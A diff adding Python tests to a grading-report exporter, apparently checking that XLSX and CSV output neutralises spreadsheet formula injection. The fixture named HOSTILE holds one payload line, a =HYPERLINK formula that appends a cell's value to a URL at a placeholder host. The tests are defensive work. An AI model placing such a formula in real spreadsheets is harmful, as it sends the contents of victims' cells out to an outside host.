@@ -156,3 +156,21 @@ def test_progress_with_unknown_total_counts() -> None:
         bar.step()
     bar.close()
     assert chinese.getvalue().rstrip().startswith("\r评分 [") and "2,000/2,000 行" in chinese.getvalue()
+
+
+HOSTILE: list[Line] = [('=HYPERLINK("http://example.invalid/?x="&B2,"详情")', [Decimal(5)], Decimal(5), "优秀", None)]
+
+
+def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
+    path = tmp_path / "out.xlsx"
+    write_results(HOSTILE, ["甲"], "xlsx", path)
+    cell = openpyxl.load_workbook(path).active["A2"]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
+
+
+def test_csv_text_cannot_start_a_formula() -> None:
+    out = io.StringIO()
+    write_results([*HOSTILE, ("-A03", [Decimal(-1)], Decimal(0), "差", None)], ["甲"], "csv", out=out)
+    lines = out.getvalue().splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK(")
+    assert lines[2].startswith("'-A03,-1,")  # a text id is quoted, a negative number is not
